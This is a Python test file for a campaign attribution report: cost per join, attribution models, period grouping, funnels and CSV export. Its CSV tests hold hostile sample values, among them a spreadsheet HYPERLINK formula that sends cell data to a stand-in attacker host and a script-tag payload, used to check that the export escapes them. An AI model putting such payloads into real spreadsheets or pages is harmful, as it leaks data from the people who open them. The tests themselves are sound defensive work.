"""The extended attribution report and the funnels from hand-built aggregates: every expectation computed by hand."""

from collections import defaultdict
from datetime import date
from decimal import Decimal

import pytest

from attract.attribution.credit import AttributionModel
from attract.attribution.models import OTHER, GroupBy, ReportModel
from attract.attribution.report_store import Day, ReportInputs
from attract.attribution.reports import (
    FUNNEL_CSV_HEADER,
    REPORT_CSV_HEADER,
    EmailPrice,
    build_funnels,
    build_report,
    funnel_records,
    period_of,
    report_records,
)
from attract.csv_export import to_csv
from attract.errors import InvalidRequestError

D = Decimal
START = END = date(2026, 11, 20)


def models(first, last, linear, decay, position) -> list[Decimal]:
    return [D(str(value)) for value in (first, last, linear, decay, position)]


def same(value) -> list[Decimal]:
    return models(value, value, value, value, value)


class Reader:
    def __init__(self, inputs: ReportInputs):
        self.inputs, self.asked = inputs, []

    def read(self, start, end, dimension, scope):
        self.asked.append((start, end, dimension, scope))
        return self.inputs


def campaign_inputs() -> ReportInputs:
    inputs = ReportInputs()
    inputs.credits.update({"Data Berlin": same(4), "No relevant": same(3), "Alumni": same(1)})
    inputs.touches.update({"Data Berlin": 6, "No relevant": 3, "Alumni": 1})
    inputs.relevant.update({"Data Berlin": same(2), "Alumni": same(1)})
    inputs.clicks.update({"Data Berlin": 40, "No relevant": 0, "Alumni": 5})
    inputs.spend.update({"Data Berlin": {"EUR": D(100)}, "Quiet": {"EUR": D(30)}, "No relevant": {"USD": D(9)}})
    inputs.sent.update({"Alumni": 2500, "Data Berlin": 1000})
    inputs.days[START] = Day(joins=D(8), touches=12, relevant=D(3), clicks=50, sent=3500,
                             spend=defaultdict(D, {"EUR": D(130), "USD": D(9)}))
    return inputs


def rows_by_key(report) -> dict:
    return {row["key"]: row for row in report.model_dump(mode="json")["rows"]}


def test_cost_per_relevant_join_rates_and_email_cost_per_currency():
    reader = Reader(campaign_inputs())
    report = build_report(ReportModel.LAST_TOUCH, GroupBy.CAMPAIGN, START, END, reader, profile="prf_0123456789abcdef")
    assert reader.asked == [(START, END, "campaign", "prf_0123456789abcdef")]
    rows = rows_by_key(report)
    # Data Berlin: 4 joins, 2 relevant, 40 clicks; EUR 100 of ads and 1,000 invitations at 0.10 USD per 1,000
    assert rows["Data Berlin"] | {"spend": None} == {
        "key": "Data Berlin", "joins": 4.0, "touches": 6, "relevant_joins": 2.0, "clicks": 40,
        "join_rate": 0.1, "relevance_rate": 0.5, "spend": None}
    assert rows["Data Berlin"]["spend"] == [
        {"currency": "EUR", "amount": "100.00", "cost_per_join": "25.00", "cost_per_relevant_join": "50.00"},
        # 0.10 USD / 4 = 0.025 -> 0.03 (half up); / 2 relevant = 0.05: USD never added to EUR
        {"currency": "USD", "amount": "0.10", "cost_per_join": "0.03", "cost_per_relevant_join": "0.05"}]
    # Quiet spent without a join or a click: a row, every cost and rate null (not an error)
    assert rows["Quiet"] == {"key": "Quiet", "joins": 0.0, "touches": 0, "relevant_joins": 0.0, "clicks": 0,
                             "join_rate": None, "relevance_rate": None,
                             "spend": [{"currency": "EUR", "amount": "30.00", "cost_per_join": None,
                                        "cost_per_relevant_join": None}]}
    # No relevant: joins but no relevant join: cost per join, no cost per relevant join, relevance rate 0
    assert rows["No relevant"]["spend"] == [{"currency": "USD", "amount": "9.00", "cost_per_join": "3.00",
                                             "cost_per_relevant_join": None}]
    assert (rows["No relevant"]["relevance_rate"], rows["No relevant"]["join_rate"]) == (0.0, None)
    # Alumni: 2,500 invitations x 0.10 / 1,000 = 0.25 USD for 1 join, 1 relevant
    assert rows["Alumni"]["spend"] == [{"currency": "USD", "amount": "0.25", "cost_per_join": "0.25",
                                        "cost_per_relevant_join": "0.25"}]
    assert [row["key"] for row in report.model_dump(mode="json")["rows"]] == ["Data Berlin", "No relevant", "Alumni", "Quiet"]
    # Totals: 8 joins, 3 relevant; EUR 130; USD 9 + 3,500 x 0.0001 = 9.35
    totals = report.model_dump(mode="json")["totals"]
    assert totals == {"joins": 8.0, "touches": 12, "relevant_joins": 3.0, "clicks": 50, "join_rate": 0.16,
                      "relevance_rate": 0.375, "spend": [
                          {"currency": "EUR", "amount": "130.00", "cost_per_join": "16.25", "cost_per_relevant_join": "43.33"},
                          {"currency": "USD", "amount": "9.35", "cost_per_join": "1.17", "cost_per_relevant_join": "3.12"}]}
    assert report.profile == "prf_0123456789abcdef" and report.by_model is None


def test_the_email_price_is_the_configured_one():
    report = build_report(ReportModel.LAST_TOUCH, GroupBy.CAMPAIGN, START, END, Reader(campaign_inputs()),
                          email_price=EmailPrice(D("0.12"), "EUR"))
    # Alumni: 2,500 x 0.12 / 1,000 = 0.30 EUR; Data Berlin: 100 EUR + 0.12 EUR, one currency now
    assert rows_by_key(report)["Alumni"]["spend"][0]["amount"] == "0.30"
    assert rows_by_key(report)["Data Berlin"]["spend"] == [
        {"currency": "EUR", "amount": "100.12", "cost_per_join": "25.03", "cost_per_relevant_join": "50.06"}]


def test_zero_joins_everywhere_gives_null_costs_and_rates():
    inputs = ReportInputs()
    inputs.spend["Spring"] = {"EUR": D(12)}
    inputs.days[START] = Day(spend=defaultdict(D, {"EUR": D(12)}))
    report = build_report(ReportModel.LINEAR, GroupBy.CAMPAIGN, START, END, Reader(inputs)).model_dump(mode="json")
    assert report["totals"] == {"joins": 0.0, "touches": 0, "relevant_joins": 0.0, "clicks": 0, "join_rate": None,
                                "relevance_rate": None, "spend": [{"currency": "EUR", "amount": "12.00",
                                                                   "cost_per_join": None, "cost_per_relevant_join": None}]}
    assert report["profile"] == "any"


def test_model_all_gives_the_five_models_side_by_side_on_the_same_rows():
    inputs = ReportInputs()
    inputs.credits.update({"A": models(1, 0, "0.5", "0.4", "0.5"), "B": models(0, 1, "0.5", "0.6", "0.5")})
    inputs.relevant.update({"A": models(1, 0, "0.5", "0.4", "0.5")})
    inputs.touches.update({"A": 1, "B": 1})
    inputs.days[START] = Day(joins=D(1), touches=2, relevant=D(1))
    report = build_report(ReportModel.ALL, GroupBy.CHANNEL, START, END, Reader(inputs)).model_dump(mode="json")
    assert report["model"] == "all" and report["rows"] == []
    assert list(report["by_model"]) == [model.value for model in AttributionModel]
    joins = {model: [(row["key"], row["joins"], row["relevant_joins"]) for row in rows]
             for model, rows in report["by_model"].items()}
    # The same keys in the same order (by last touch) under every model
    assert joins == {"first_touch": [("B", 0.0, 0.0), ("A", 1.0, 1.0)],
                     "last_touch": [("B", 1.0, 0.0), ("A", 0.0, 0.0)],
                     "linear": [("B", 0.5, 0.0), ("A", 0.5, 0.5)],
                     "time_decay": [("B", 0.6, 0.0), ("A", 0.4, 0.4)],
                     "position_based": [("B", 0.5, 0.0), ("A", 0.5, 0.5)]}
    assert report["by_model"]["time_decay"][1]["relevance_rate"] == 1.0  # 0.4 / 0.4


def test_model_all_folds_the_same_keys_under_every_model():
    inputs = ReportInputs()
    for index in range(4):
        inputs.credits[f"k{index}"] = models(4 - index, index + 1, 1, 1, 1)
    report = build_report(ReportModel.ALL, GroupBy.CAMPAIGN, START, END, Reader(inputs), limit=2)
    # Last touch ranks k3 (4), k2 (3), k1, k0: k3 named, the other three in (other), 3 + 2 + 1 = 6: first
    assert {model.value: [row.key for row in rows] for model, rows in report.by_model.items()} == {
        model.value: [OTHER, "k3"] for model in AttributionModel}
    assert [row.joins for row in report.by_model[AttributionModel.FIRST_TOUCH]] == [9.0, 1.0]  # 4 + 3 + 2, then k3
    assert report.folded_rows == 3


def period_inputs() -> ReportInputs:
    inputs = ReportInputs()
    for day, joins in ((date(2026, 12, 27), 1), (date(2026, 12, 28), 2), (date(2027, 1, 3), 3), (date(2027, 1, 4), 4)):
        inputs.days[day] = Day(joins=D(joins), touches=joins, relevant=D(joins % 2), clicks=10 * joins)
    inputs.days[date(2027, 1, 3)].sent = 2000
    inputs.days[date(2027, 1, 3)].spend["EUR"] = D(10)
    return inputs


@pytest.mark.parametrize(("group_by", "expected"), [
    # Sunday 27 Dec 2026 closes ISO week 52; 2026 has 53 ISO weeks (1 Jan 2026 is a Thursday): 28 Dec - 3 Jan
    (GroupBy.WEEK, [("2026-W52", 1.0, 1.0, 10), ("2026-W53", 5.0, 1.0, 50), ("2027-W01", 4.0, 0.0, 40)]),
    (GroupBy.MONTH, [("2026-12", 3.0, 1.0, 30), ("2027-01", 7.0, 1.0, 70)]),
    (GroupBy.DAY, [("2026-12-27", 1.0, 1.0, 10), ("2026-12-28", 2.0, 0.0, 20), ("2026-12-29", 0.0, 0.0, 0),
                   ("2026-12-30", 0.0, 0.0, 0), ("2026-12-31", 0.0, 0.0, 0), ("2027-01-01", 0.0, 0.0, 0),
                   ("2027-01-02", 0.0, 0.0, 0), ("2027-01-03", 3.0, 1.0, 30), ("2027-01-04", 4.0, 0.0, 40)]),
])
def test_periods_group_days_at_iso_week_and_month_boundaries(group_by, expected):
    report = build_report(ReportModel.TIME_DECAY, group_by, date(2026, 12, 27), date(2027, 1, 4), Reader(period_inputs()),
                          limit=1)  # the limit folds keys, never periods
    assert [(row.key, row.joins, row.relevant_joins, row.clicks) for row in report.rows] == expected
    assert report.folded_rows == 0 and report.totals.joins == 10.0


def test_a_period_row_carries_its_days_spend_and_email_cost():
    report = build_report(ReportModel.LAST_TOUCH, GroupBy.WEEK, date(2026, 12, 27), date(2027, 1, 4), Reader(period_inputs()))
    week = report.model_dump(mode="json")["rows"][1]
    # 2,000 invitations x 0.10 / 1,000 = 0.20 USD; EUR 10 / 5 joins = 2.00, / 1 relevant = 10.00
    assert week["spend"] == [{"currency": "EUR", "amount": "10.00", "cost_per_join": "2.00", "cost_per_relevant_join": "10.00"},
                             {"currency": "USD", "amount": "0.20", "cost_per_join": "0.04", "cost_per_relevant_join": "0.20"}]
    assert (week["join_rate"], week["relevance_rate"]) == (0.1, 0.2)  # 5 / 50, 1 / 5


def test_period_labels():
    assert [period_of(date(2027, 1, 3), g) for g in (GroupBy.DAY, GroupBy.WEEK, GroupBy.MONTH)] == [
        "2027-01-03", "2026-W53", "2027-01"]


def test_a_reversed_or_too_long_range_is_a_422_naming_to():
    with pytest.raises(InvalidRequestError) as error:
        build_report(ReportModel.LINEAR, GroupBy.DAY, date(2026, 2, 1), date(2026, 1, 1), Reader(ReportInputs()))
    assert (error.value.field, error.value.rule) == ("to", "date_order")
    with pytest.raises(InvalidRequestError) as error:
        build_funnels(date(2024, 12, 31), date(2026, 1, 1), Reader(ReportInputs()), None)
    assert error.value.rule == "range_too_long"


class Runs:
    def __init__(self, planned: dict[str, int]):
        self.planned_by_id, self.asked = planned, []

    def planned(self, campaign_id, start, end):
        self.asked.append(campaign_id)
        return self.planned_by_id.get(campaign_id, 0)


def funnel_inputs() -> ReportInputs:
    inputs = ReportInputs()
    inputs.campaign_ids.update({"cmp-1": "Alumni", "cmp-2": "Alumni"})  # two invite campaigns, one name
    inputs.sent["Alumni"] = 90
    inputs.pair_clicks.update({("email", "Alumni"): 30, ("email", "Newsletter"): 7, ("paid_search", "Spring"): 5})
    inputs.credits.update({"Alumni": models(5, 6, 5, 5, 5), "Spring": models(2, 3, 2, 2, 2)})
    inputs.relevant.update({"Alumni": models(1, 2, 1, 1, 1), "Spring": models(0, 1, 0, 0, 0)})
    inputs.ads[("paid_search", "Spring")] = [1000, 50]
    return inputs


def test_funnels_per_campaign_email_and_ads():
    runs = Runs({"cmp-1": 60, "cmp-2": 40})
    reader = Reader(funnel_inputs())
    report = build_funnels(START, END, reader, runs).model_dump(mode="json", by_alias=True)
    assert reader.asked == [(START, END, "campaign", "any")] and sorted(runs.asked) == ["cmp-1", "cmp-2"]
    assert report == {"from": "2026-11-20", "to": "2026-11-20", "profile": "any", "campaigns": [
        {"kind": "email", "channel": "email", "campaign": "Alumni", "steps": [
            {"name": "invited", "count": 100}, {"name": "sent", "count": 90}, {"name": "clicked", "count": 30},
            {"name": "joined", "count": 6.0}, {"name": "relevant", "count": 2.0}]},
        # (an email link without invitations, "Newsletter", is no invitation funnel)
        {"kind": "ads", "channel": "paid_search", "campaign": "Spring", "steps": [
            {"name": "impressions", "count": 1000}, {"name": "clicks", "count": 50},
            {"name": "joins", "count": 3.0}, {"name": "relevant", "count": 1.0}]}]}
    first_touch = build_funnels(START, END, Reader(funnel_inputs()), runs, model=AttributionModel.FIRST_TOUCH)
    assert [step.count for step in first_touch.campaigns[0].steps] == [100, 90, 30, 5.0, 1.0]


HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "<script>alert(1)</script>", "+1", "-2", "@SUM(A1)",
           "\tTab", "a,b")


def test_csv_of_a_report_escapes_hostile_campaign_names_and_splits_currencies():
    inputs = ReportInputs()
    for index, name in enumerate(HOSTILE):
        inputs.credits[name] = same(len(HOSTILE) - index)
    inputs.spend[HOSTILE[0]] = {"EUR": D(7), "USD": D(1)}
    inputs.days[START] = Day(joins=D(28), touches=28)
    report = build_report(ReportModel.LAST_TOUCH, GroupBy.CAMPAIGN, START, END, Reader(inputs))
    document = to_csv(REPORT_CSV_HEADER, report_records(report)).encode()
    lines = document.split(b"\r\n")
    assert lines[0] == ("\ufeff" + ",".join(REPORT_CSV_HEADER)).encode()
    # Formula cells get a leading apostrophe (and are quoted for their quotes); one record per currency
    assert lines[1] == b'last_touch,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",7.0,0,0.0,0,,0.0,EUR,7.00,1.00,'
    assert lines[2] == b'last_touch,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",7.0,0,0.0,0,,0.0,USD,1.00,0.14,'
    assert lines[3] == b"last_touch,<script>alert(1)</script>,6.0,0,0.0,0,,0.0,,,,"
    assert [line.split(b",")[1] for line in lines[4:8]] == [b"'+1", b"'-2", b"'@SUM(A1)", b"'\tTab"]
    assert lines[8] == b'last_touch,"a,b",1.0,0,0.0,0,,0.0,,,,'
    assert lines[9] == b"last_touch,(total),28.0,28,0.0,0,,0.0,,,,"
    assert lines[10] == b""


def test_csv_of_model_all_has_one_record_per_model_and_row():
    inputs = ReportInputs()
    inputs.credits["A"] = models(1, 0, "0.5", "0.4", "0.5")
    records = report_records(build_report(ReportModel.ALL, GroupBy.CHANNEL, START, END, Reader(inputs)))
    assert [(record[0], record[1], record[2]) for record in records] == [
        ("first_touch", "A", 1.0), ("first_touch", "(total)", 0.0), ("last_touch", "A", 0.0), ("last_touch", "(total)", 0.0),
        ("linear", "A", 0.5), ("linear", "(total)", 0.0), ("time_decay", "A", 0.4), ("time_decay", "(total)", 0.0),
        ("position_based", "A", 0.5), ("position_based", "(total)", 0.0)]


def test_csv_of_the_funnels_escapes_campaign_names():
    inputs = funnel_inputs()
    inputs.ads[("paid_social", HOSTILE[0])] = [10, 1]
    report = build_funnels(START, END, Reader(inputs), Runs({"cmp-1": 3}))
    document = to_csv(FUNNEL_CSV_HEADER, funnel_records(report))
    assert document.startswith("\ufeffkind,channel,campaign,step,count\r\nemail,email,Alumni,invited,3\r\n")
    assert 'ads,paid_social,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",impressions,10\r\n' in document
